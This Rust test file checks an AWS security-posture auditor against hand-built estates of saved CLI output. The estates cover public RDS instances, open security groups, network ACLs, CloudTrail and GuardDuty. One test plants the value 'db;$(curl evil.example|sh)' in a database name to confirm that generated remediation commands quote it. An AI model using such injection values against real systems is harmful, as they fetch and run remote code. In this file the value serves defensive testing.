//! Every AWS control on saved AWS CLI outputs, through `load` and `audit`.
//!
//! `tests/data/aws/bad` is an estate where every control fails somewhere and
//! `tests/data/aws/good` one where every control passes; both are written by hand
//! in the shapes the AWS CLI prints (`gen.py` beside them writes them). The other
//! tests change one file of an estate to show one judgment.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use chrono::{TimeZone, Utc};
use keibi_i18n::{DisplayZone, Lang, Locale};
use keibi_posture::aws::load::{load, LoadProblem, SavedFile};
use keibi_posture::{audit, Outcome, Report, Snapshot, Status};

fn data(dir: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/aws")
        .join(dir)
}

/// The estate's files, name → content.
fn files(dir: &str) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    for e in std::fs::read_dir(data(dir)).unwrap() {
        let p = e.unwrap().path();
        if p.extension().is_some_and(|x| x == "json") {
            let name = p.file_name().unwrap().to_string_lossy().to_string();
            out.insert(name, std::fs::read_to_string(&p).unwrap());
        }
    }
    out
}

fn run(files: &BTreeMap<String, String>) -> (Report, Vec<LoadProblem>) {
    let paths: Vec<(PathBuf, &String)> = files
        .iter()
        .map(|(n, c)| (Path::new("estate").join(n), c))
        .collect();
    let saved: Vec<SavedFile<'_>> = paths
        .iter()
        .map(|(p, c)| SavedFile {
            path: p,
            bytes: c.as_bytes(),
        })
        .collect();
    let (aws, problems) = load(&saved);
    let snap = Snapshot {
        aws,
        ..Snapshot::default()
    };
    let at = Utc.with_ymd_and_hms(2026, 12, 6, 9, 0, 0).unwrap();
    (audit(&snap, at), problems)
}

fn estate(dir: &str) -> Report {
    let (r, p) = run(&files(dir));
    assert!(p.is_empty(), "{p:?}");
    r
}

fn of<'a>(r: &'a Report, id: &str) -> Vec<&'a Outcome> {
    r.outcomes.iter().filter(|o| o.control.id == id).collect()
}

fn failed_on(r: &Report, id: &str) -> BTreeSet<String> {
    of(r, id)
        .into_iter()
        .filter(|o| o.status == Status::Failed)
        .map(|o| o.resource.id.clone())
        .collect()
}

fn set(ids: &[&str]) -> BTreeSet<String> {
    ids.iter().map(|s| s.to_string()).collect()
}

#[test]
fn every_control_fails_in_the_bad_estate_and_passes_in_the_good_one() {
    let bad = estate("bad");
    let good = estate("good");
    for c in keibi_posture::aws::CONTROLS {
        assert!(
            of(&bad, c.id).iter().any(|o| o.is_failed()),
            "{} does not fail in the bad estate",
            c.id
        );
        let g = of(&good, c.id);
        assert!(
            g.iter().any(|o| o.status == Status::Passed),
            "{} does not pass in the good estate",
            c.id
        );
        let wrong: Vec<_> = g
            .iter()
            .filter(|o| o.is_failed())
            .map(|o| &o.resource.id)
            .collect();
        assert!(
            wrong.is_empty(),
            "{} fails in the good estate on {wrong:?}",
            c.id
        );
    }
}

#[test]
fn the_bad_estate_fails_exactly_where_it_should() {
    let r = estate("bad");
    assert_eq!(failed_on(&r, "RDS.2"), set(&["pg-public"]));
    assert_eq!(failed_on(&r, "RDS.3"), set(&["pg-public", "aurora-pg-1"]));
    // Aurora members are judged by their cluster for Multi-AZ, deletion protection,
    // log exports, backups and master user.
    assert_eq!(failed_on(&r, "RDS.5"), set(&["pg-public"]));
    assert_eq!(failed_on(&r, "RDS.8"), set(&["pg-public"]));
    assert_eq!(failed_on(&r, "RDS.9"), set(&["pg-public", "maria-app"]));
    assert_eq!(failed_on(&r, "RDS.11"), set(&["pg-public"]));
    assert_eq!(failed_on(&r, "RDS.25"), set(&["pg-public"]));
    assert_eq!(
        failed_on(&r, "RDS.23"),
        set(&["pg-public", "mysql-app", "aurora-pg-1", "aurora-my-1"])
    );
    assert_eq!(failed_on(&r, "RDS.38"), set(&["pg-public"]));
    assert_eq!(failed_on(&r, "RDS.39"), set(&["mysql-app"]));
    assert_eq!(failed_on(&r, "RDS.44"), set(&["maria-app"]));
    assert_eq!(failed_on(&r, "RDS.42"), set(&["maria-app"]));
    assert_eq!(failed_on(&r, "RDS.36"), set(&["pg-public"]));
    assert_eq!(failed_on(&r, "RDS.35"), set(&["aurora-pg", "aurora-my"]));
    assert_eq!(failed_on(&r, "RDS.34"), set(&["aurora-my"]));
    assert_eq!(failed_on(&r, "RDS.37"), set(&["aurora-pg"]));
    assert_eq!(failed_on(&r, "RDS.45"), set(&["aurora-my"]));
    assert_eq!(failed_on(&r, "RDS.46"), set(&["pg-public"]));
    assert_eq!(failed_on(&r, "RDS.1"), set(&["pg-public-before-upgrade"]));
    assert_eq!(
        failed_on(&r, "RDS.4"),
        set(&["pg-public-before-upgrade", "aurora-pg-export"])
    );
    assert_eq!(failed_on(&r, "EC2.2"), set(&["sg-0def0000000000001"]));
    assert_eq!(failed_on(&r, "EC2.19"), set(&["sg-0db0000000000open"]));
    assert_eq!(failed_on(&r, "EC2.18"), set(&["sg-0db0000000000open"]));
    assert_eq!(failed_on(&r, "KB.NACL.1"), set(&["acl-0db00000000000001"]));
    assert_eq!(failed_on(&r, "KB.RDS.1"), set(&["pg-public"]));
    assert_eq!(failed_on(&r, "CloudTrail.1"), set(&["123456789012"]));
    assert_eq!(failed_on(&r, "CloudTrail.3"), set(&["123456789012"]));
    assert_eq!(failed_on(&r, "GuardDuty.1"), set(&["123456789012"]));
    // Every outcome has the account and region of the data.
    for o in &r.outcomes {
        assert_eq!(o.resource.account.as_deref(), Some("123456789012"), "{o:?}");
        assert_eq!(o.resource.region.as_deref(), Some("us-east-1"), "{o:?}");
    }
}

#[test]
fn a_public_snapshot_of_unencrypted_data_is_worse() {
    let r = estate("bad");
    let o = of(&r, "RDS.1").into_iter().find(|o| o.is_failed()).unwrap();
    assert_eq!(o.severity.unwrap().value(), 9.5);
    let f = o.finding(r.at);
    assert_eq!(f.finding_type, "Posture:RDS.1/SnapshotPublic");
    assert!(f.description.contains("not encrypted"), "{}", f.description);
    // The cluster snapshot shared with one account is not public.
    assert!(of(&r, "RDS.1")
        .iter()
        .any(|o| o.resource.id == "aurora-pg-export" && o.status == Status::Passed));
}

#[test]
fn reachable_from_the_internet_names_the_instance_port_group_and_route() {
    let r = estate("bad");
    let o = of(&r, "KB.RDS.1")
        .into_iter()
        .find(|o| o.is_failed())
        .unwrap();
    let f = o.finding(r.at);
    assert_eq!(f.finding_type, "Posture:KB.RDS.1/ReachableFromInternet");
    assert_eq!(f.severity.value(), 9.0);
    for part in [
        "pg-public",
        "5432",
        "sg-0db0000000000open",
        "0.0.0.0/0",
        "igw-0bad000000000001",
        "rtb-0pub0000000000001",
        "subnet-0pub000000000000a",
    ] {
        assert!(
            f.description.contains(part),
            "{part} not in {}",
            f.description
        );
    }
    assert!(f.remediation.contains(
        "aws rds modify-db-instance --db-instance-identifier pg-public --no-publicly-accessible"
    ));
    assert_eq!(o.evidence.len(), 3);
}

/// The estate with one file replaced (or removed with `None`).
fn with(dir: &str, changes: &[(&str, Option<&str>)]) -> Report {
    let mut f = files(dir);
    for (name, content) in changes {
        match content {
            Some(c) => {
                f.insert(name.to_string(), c.to_string());
            }
            None => {
                assert!(f.remove(*name).is_some(), "{name}");
            }
        }
    }
    let (r, p) = run(&f);
    assert!(p.is_empty(), "{p:?}");
    r
}

fn statuses(r: &Report, id: &str, resource: &str) -> Vec<Status> {
    of(r, id)
        .into_iter()
        .filter(|o| o.resource.id == resource)
        .map(|o| o.status)
        .collect()
}

#[test]
fn reachability_each_condition_false_is_a_pass_and_missing_data_no_outcome() {
    let base = files("bad");
    // The route to the internet gateway made a blackhole: no route, a pass.
    let rt = base["describe-route-tables.json"].replace("\"active\"", "\"blackhole\"");
    let r = with("bad", &[("describe-route-tables.json", Some(&rt))]);
    assert_eq!(statuses(&r, "KB.RDS.1", "pg-public"), [Status::Passed]);
    assert_eq!(statuses(&r, "RDS.46", "pg-public"), [Status::Passed]);
    // The network ACL denies 5432 before its allow-all rule: a pass.
    let acl = base["describe-network-acls.json"].replacen(
        "\"RuleNumber\": 100",
        "\"RuleNumber\": 100\n        }, {\"CidrBlock\": \"0.0.0.0/0\", \"Egress\": false, \"Protocol\": \"6\", \"RuleAction\": \"deny\", \"RuleNumber\": 50, \"PortRange\": {\"From\": 5400, \"To\": 5500}",
        1,
    );
    let r = with("bad", &[("describe-network-acls.json", Some(&acl))]);
    assert_eq!(statuses(&r, "KB.RDS.1", "pg-public"), [Status::Passed]);
    assert_eq!(
        statuses(&r, "KB.NACL.1", "acl-0db00000000000001"),
        [Status::Failed]
    );
    // Without the network ACLs, reachability is judged on the rest (they are optional).
    let r = with("bad", &[("describe-network-acls.json", None)]);
    assert_eq!(statuses(&r, "KB.RDS.1", "pg-public"), [Status::Failed]);
    assert!(of(&r, "KB.NACL.1").is_empty());
    // Without the route tables or the security groups: not evaluated.
    let r = with("bad", &[("describe-route-tables.json", None)]);
    assert!(statuses(&r, "KB.RDS.1", "pg-public").is_empty());
    assert!(of(&r, "RDS.46").is_empty());
    let r = with("bad", &[("describe-security-groups.json", None)]);
    assert!(statuses(&r, "KB.RDS.1", "pg-public").is_empty());
    assert!(
        of(&r, "EC2.19").is_empty() && of(&r, "EC2.18").is_empty() && of(&r, "EC2.2").is_empty()
    );
    // The group opens 5432 to ::/0 only and the subnet routes only 0.0.0.0/0 to the
    // gateway: no IPv6 path, a pass; with a ::/0 route too, reachable.
    let mut v: serde_json::Value =
        serde_json::from_str(&base["describe-security-groups.json"]).unwrap();
    let rule = &mut v["SecurityGroups"][1]["IpPermissions"][0];
    assert_eq!(rule["FromPort"], 5432);
    rule["IpRanges"] = serde_json::json!([]);
    rule["Ipv6Ranges"] = serde_json::json!([{"CidrIpv6": "::/0"}]);
    let sg = v.to_string();
    assert_ne!(sg, base["describe-security-groups.json"]);
    let r = with("bad", &[("describe-security-groups.json", Some(&sg))]);
    assert_eq!(statuses(&r, "KB.RDS.1", "pg-public"), [Status::Passed]);
    assert_eq!(
        statuses(&r, "EC2.19", "sg-0db0000000000open"),
        [Status::Failed]
    );
    let rt6 = base["describe-route-tables.json"].replacen(
        "\"Routes\": [",
        "\"Routes\": [{\"DestinationIpv6CidrBlock\": \"::/0\", \"GatewayId\": \"igw-0bad000000000001\", \"State\": \"active\"},",
        1,
    );
    let r = with(
        "bad",
        &[
            ("describe-security-groups.json", Some(&sg)),
            ("describe-route-tables.json", Some(&rt6)),
        ],
    );
    // The ACL has IPv4 entries only: IPv6 is denied by its final rule.
    assert_eq!(statuses(&r, "KB.RDS.1", "pg-public"), [Status::Passed]);
    let r = with(
        "bad",
        &[
            ("describe-security-groups.json", Some(&sg)),
            ("describe-route-tables.json", Some(&rt6)),
            ("describe-network-acls.json", None),
        ],
    );
    assert_eq!(statuses(&r, "KB.RDS.1", "pg-public"), [Status::Failed]);
    let f = of(&r, "KB.RDS.1")
        .into_iter()
        .find(|o| o.is_failed())
        .unwrap()
        .finding(r.at);
    assert!(f.description.contains("lets ::/0 in"), "{}", f.description);
    // Not publicly accessible: a pass whatever else is known.
    let inst = base["describe-db-instances.json"].replacen(
        "\"PubliclyAccessible\": true",
        "\"PubliclyAccessible\": false",
        1,
    );
    let r = with(
        "bad",
        &[
            ("describe-db-instances.json", Some(&inst)),
            ("describe-route-tables.json", None),
        ],
    );
    assert_eq!(statuses(&r, "KB.RDS.1", "pg-public"), [Status::Passed]);
}

#[test]
fn the_main_route_table_serves_a_subnet_without_its_own() {
    // subnet-0pub…b has no association: the main table decides. Give the main
    // table the internet route and move pg-public to subnet b only.
    let base = files("bad");
    let rt = base["describe-route-tables.json"].replace(
        "\"RouteTableId\": \"rtb-0main000000000001\",\n            \"Routes\": [",
        "\"RouteTableId\": \"rtb-0main000000000001\",\n            \"Routes\": [{\"DestinationIpv6CidrBlock\": \"::/0\", \"GatewayId\": \"igw-0bad000000000001\", \"State\": \"active\"},",
    );
    assert_ne!(rt, base["describe-route-tables.json"]);
    let r = with("bad", &[("describe-route-tables.json", Some(&rt))]);
    // Every instance in subnet b now sits behind a route to the internet.
    assert_eq!(
        failed_on(&r, "RDS.46"),
        set(&[
            "pg-public",
            "mysql-app",
            "maria-app",
            "aurora-pg-1",
            "aurora-my-1"
        ])
    );
    let o = of(&r, "RDS.46")
        .into_iter()
        .find(|o| o.resource.id == "mysql-app")
        .unwrap();
    let f = o.finding(r.at);
    assert!(
        f.description.contains("rtb-0main000000000001"),
        "{}",
        f.description
    );
    assert!(f.description.contains("::/0"), "{}", f.description);
}

#[test]
fn only_what_was_read_is_judged() {
    // Only the instances: no network, trail or GuardDuty control gives an outcome,
    // and no parameter-group control either.
    let f = files("bad");
    let only: BTreeMap<String, String> = f
        .into_iter()
        .filter(|(n, _)| n == "describe-db-instances.json")
        .collect();
    let (r, p) = run(&only);
    assert!(p.is_empty());
    let ids: BTreeSet<&str> = r.outcomes.iter().map(|o| o.control.id).collect();
    for absent in [
        "EC2.2",
        "EC2.18",
        "EC2.19",
        "KB.NACL.1",
        "RDS.46",
        "RDS.38",
        "RDS.39",
        "RDS.44",
        "RDS.45",
        "RDS.1",
        "RDS.4",
        "CloudTrail.1",
        "CloudTrail.3",
        "GuardDuty.1",
        "GuardDuty.9",
        "RDS.7",
    ] {
        assert!(!ids.contains(absent), "{absent} judged without its data");
    }
    assert!(ids.contains("RDS.2") && ids.contains("RDS.3"));
    // Reachability: the private instances pass on their flag alone; the public one
    // needs the security groups and routes, which were not read.
    assert!(statuses(&r, "KB.RDS.1", "pg-public").is_empty());
    assert_eq!(statuses(&r, "KB.RDS.1", "mysql-app"), [Status::Passed]);
    // A trail whose status was not read: CloudTrail.3 is not evaluated.
    let (r, _) = run(&files("bad")
        .into_iter()
        .filter(|(n, _)| n != "get-trail-status.audit-trail.json")
        .collect());
    assert!(of(&r, "CloudTrail.3").is_empty());
    // CloudTrail.1 fails anyway: the only trail is not multi-region.
    assert_eq!(failed_on(&r, "CloudTrail.1"), set(&["123456789012"]));
}

#[test]
fn guardduty_detector_states() {
    let det = |status: &str, rds: &str| {
        format!(
            r#"{{"Status":"{status}","ServiceRole":"x","Features":[{{"Name":"RDS_LOGIN_EVENTS","Status":"{rds}"}}]}}"#
        )
    };
    let name = "guardduty-get-detector.6ec5f1e8c0a94e1c9b4b2b2a4a1c0d0e.json";
    let r = with("good", &[(name, Some(&det("ENABLED", "DISABLED")))]);
    assert_eq!(failed_on(&r, "GuardDuty.9"), set(&["210987654321"]));
    assert!(failed_on(&r, "GuardDuty.1").is_empty());
    let r = with("good", &[(name, Some(&det("DISABLED", "ENABLED")))]);
    assert_eq!(failed_on(&r, "GuardDuty.1"), set(&["210987654321"]));
    assert_eq!(failed_on(&r, "GuardDuty.9"), set(&["210987654321"]));
    let f = of(&r, "GuardDuty.1")[0].finding(r.at);
    assert!(f.remediation.contains(
        "aws guardduty update-detector --detector-id 6ec5f1e8c0a94e1c9b4b2b2a4a1c0d0e --enable"
    ));
    // Listed but never described: not evaluated.
    let r = with("good", &[(name, None)]);
    assert!(of(&r, "GuardDuty.1").is_empty() && of(&r, "GuardDuty.9").is_empty());
}

#[test]
fn cloudtrail_advanced_selectors_and_read_only_selectors() {
    let sel = |body: &str| {
        format!(
            r#"{{"TrailARN":"arn:aws:cloudtrail:eu-west-1:210987654321:trail/main-trail",{body}}}"#
        )
    };
    let name = "get-event-selectors.main-trail.json";
    let ro =
        sel(r#""EventSelectors":[{"ReadWriteType":"WriteOnly","IncludeManagementEvents":true}]"#);
    let r = with("good", &[(name, Some(&ro))]);
    assert_eq!(failed_on(&r, "CloudTrail.1"), set(&["210987654321"]));
    assert!(failed_on(&r, "CloudTrail.3").is_empty());
    let adv = sel(
        r#""AdvancedEventSelectors":[{"Name":"mgmt","FieldSelectors":[{"Field":"eventCategory","Equals":["Management"]}]}]"#,
    );
    let r = with("good", &[(name, Some(&adv))]);
    assert!(failed_on(&r, "CloudTrail.1").is_empty());
    assert!(!of(&r, "CloudTrail.1").is_empty());
    let adv_ro = sel(
        r#""AdvancedEventSelectors":[{"FieldSelectors":[{"Field":"eventCategory","Equals":["Management"]},{"Field":"readOnly","Equals":["false"]}]}]"#,
    );
    let r = with("good", &[(name, Some(&adv_ro))]);
    assert_eq!(failed_on(&r, "CloudTrail.1"), set(&["210987654321"]));
}

#[test]
fn ipv6_and_all_protocols_rules_open_database_ports() {
    let sg = r#"{"SecurityGroups":[{"GroupId":"sg-6","GroupName":"v6","OwnerId":"210987654321",
        "IpPermissions":[{"IpProtocol":"-1","Ipv6Ranges":[{"CidrIpv6":"::/0"}]}]}]}"#;
    let r = with("good", &[("describe-security-groups.json", Some(sg))]);
    let o = of(&r, "EC2.19")[0];
    assert!(o.is_failed());
    let f = o.finding(r.at);
    assert!(f.description.contains("all ports"), "{}", f.description);
    assert!(
        f.remediation.contains(
            "--group-id sg-6 --ip-permissions 'IpProtocol=-1,Ipv6Ranges=[{CidrIpv6=::/0}]'"
        ),
        "{}",
        f.remediation
    );
    // The instances' own ports count: 15432 is no standard port.
    let sg = r#"{"SecurityGroups":[{"GroupId":"sg-7","GroupName":"p","OwnerId":"210987654321",
        "IpPermissions":[{"IpProtocol":"tcp","FromPort":15000,"ToPort":15500,"IpRanges":[{"CidrIp":"0.0.0.0/0"}]}]}]}"#;
    let r = with("good", &[("describe-security-groups.json", Some(sg))]);
    assert_eq!(failed_on(&r, "EC2.19"), set(&["sg-7"]));
    let f = of(&r, "EC2.19")[0].finding(r.at);
    assert!(
        f.description.contains(
            "lets 0.0.0.0/0 in on ports 15000-15500, which include the database port 15432:"
        ),
        "{}",
        f.description
    );
    let r = estate("bad");
    let f = of(&r, "EC2.19")
        .into_iter()
        .find(|o| o.is_failed())
        .unwrap()
        .finding(r.at);
    assert!(
        f.description
            .contains("(db-open) lets 0.0.0.0/0 in on the database port 5432: every"),
        "{}",
        f.description
    );
}

#[test]
fn hostile_names_stay_text_and_commands_quote_them() {
    let evil = "db;$(curl evil.example|sh)'\n[ok]";
    let inst = format!(
        r#"{{"DBInstances":[{{"DBInstanceIdentifier":{},"Engine":"postgres","PubliclyAccessible":"True",
            "DBInstanceArn":"arn:aws:rds:us-east-1:123456789012:db:x","MasterUsername":"{{ $resource }}"}}]}}"#,
        serde_json::to_string(evil).unwrap()
    );
    let mut f = BTreeMap::new();
    f.insert("i.json".to_string(), inst);
    let (r, p) = run(&f);
    assert!(p.is_empty());
    let o = of(&r, "RDS.2")[0];
    assert!(o.is_failed());
    let fd = o.finding(r.at);
    assert!(fd.title.contains(evil), "{}", fd.title);
    assert!(
        fd.remediation
            .contains(r#"--db-instance-identifier 'db;$(curl evil.example|sh)'\''"#),
        "{}",
        fd.remediation
    );
    // A Fluent placeholder in a value is shown as it is, not expanded.
    let o = of(&r, "RDS.25")[0];
    assert!(o.finding(r.at).description.contains("{ $resource }"));
}

#[test]
fn every_failure_renders_in_both_languages_without_a_missing_argument() {
    let r = estate("bad");
    let ja = Locale::new(Lang::Ja, DisplayZone::named("Asia/Tokyo").unwrap());
    let en = Locale::english_utc();
    for o in r.failed() {
        for part in ["title", "what", "console", "cli"] {
            let m = o.message(part);
            for loc in [&en, &ja] {
                let s = loc.render(&m);
                assert!(!s.is_empty(), "{} {part}", o.control.id);
                assert!(
                    !s.contains("{$") && !s.contains("{ $"),
                    "{} {part}: {s}",
                    o.control.id
                );
                assert!(
                    !s.contains(&format!("{}-{part}", o.control.msg)),
                    "{} {part} missing: {s}",
                    o.control.id
                );
            }
        }
    }
    let o = of(&r, "KB.RDS.1")
        .into_iter()
        .find(|o| o.is_failed())
        .unwrap();
    let title = ja.render(&o.message("title"));
    assert_eq!(
        title,
        "RDS インスタンス pg-public にインターネットから到達できます"
    );
}

#[test]
fn finding_ids_are_stable_and_differ_by_resource() {
    let a = estate("bad");
    let b = estate("bad");
    let ids = |r: &Report| r.findings().into_iter().map(|f| f.id).collect::<Vec<_>>();
    assert_eq!(ids(&a), ids(&b));
    let unique: BTreeSet<String> = ids(&a).into_iter().collect();
    assert_eq!(unique.len(), a.failed().count());
}

#[test]
fn moto_answers_load_and_fail_where_the_emulated_account_is_open() {
    let r = estate("moto");
    let failed: BTreeSet<&str> = r.failed().map(|o| o.control.id).collect();
    let want: BTreeSet<&str> = [
        "RDS.1",
        "RDS.2",
        "RDS.3",
        "RDS.4",
        "RDS.5",
        "RDS.6",
        "RDS.8",
        "RDS.9",
        "RDS.10",
        "RDS.11",
        "RDS.23",
        "RDS.25",
        "RDS.36",
        "RDS.38",
        "RDS.46",
        "EC2.2",
        "EC2.19",
        "KB.NACL.1",
        "KB.RDS.1",
        "CloudTrail.2",
        "CloudTrail.4",
        "CloudTrail.5",
    ]
    .into_iter()
    .collect();
    assert_eq!(failed, want);
    // The trail is multi-region and logging with the default selectors (moto lists
    // none), and the detector is enabled: passes.
    for id in ["CloudTrail.1", "CloudTrail.3", "GuardDuty.1", "RDS.13"] {
        assert_eq!(of(&r, id).len(), 1, "{id}");
        assert_eq!(of(&r, id)[0].status, Status::Passed, "{id}");
    }
    // moto's detector lists no features: RDS Protection is not judged.
    assert!(of(&r, "GuardDuty.9").is_empty());
    let reach = of(&r, "KB.RDS.1")[0].finding(r.at);
    assert!(
        reach.description.contains("moto-pg"),
        "{}",
        reach.description
    );
    for o in &r.outcomes {
        assert_eq!(o.resource.account.as_deref(), Some("123456789012"));
        assert_eq!(o.resource.region.as_deref(), Some("us-east-1"));
    }
}

/// Cost on a large estate: `KEIBI_AUDIT_ESTATE=DIR cargo test -p keibi-posture
/// --test aws -- --ignored --nocapture scale` (make one with
/// `tests/data/aws/big.py N DIR`).
#[test]
#[ignore]
fn scale() {
    let Ok(dir) = std::env::var("KEIBI_AUDIT_ESTATE") else {
        return;
    };
    let hwm = || {
        std::fs::read_to_string("/proc/self/status")
            .ok()
            .and_then(|s| {
                s.lines()
                    .find(|l| l.starts_with("VmHWM"))
                    .map(str::to_string)
            })
            .unwrap_or_default()
    };
    let mut input = 0;
    let mut loader = keibi_posture::aws::load::Loader::default();
    let t = std::time::Instant::now();
    for e in std::fs::read_dir(&dir).unwrap() {
        let p = e.unwrap().path();
        let bytes = std::fs::read(&p).unwrap();
        input += bytes.len();
        loader.add(&SavedFile {
            path: &p,
            bytes: &bytes,
        });
    }
    let (aws, problems) = loader.finish();
    let t_load = t.elapsed();
    eprintln!(
        "{input} bytes read one file at a time; after loading {}",
        hwm()
    );
    let snap = Snapshot {
        aws,
        ..Snapshot::default()
    };
    let t = std::time::Instant::now();
    let r = audit(&snap, Utc::now());
    let t_audit = t.elapsed();
    let t = std::time::Instant::now();
    let f = r.findings();
    let t_find = t.elapsed();
    eprintln!(
        "load {t_load:?} ({} problems), audit {t_audit:?} ({} outcomes), findings {t_find:?} ({})",
        problems.len(),
        r.outcomes.len(),
        f.len()
    );
}
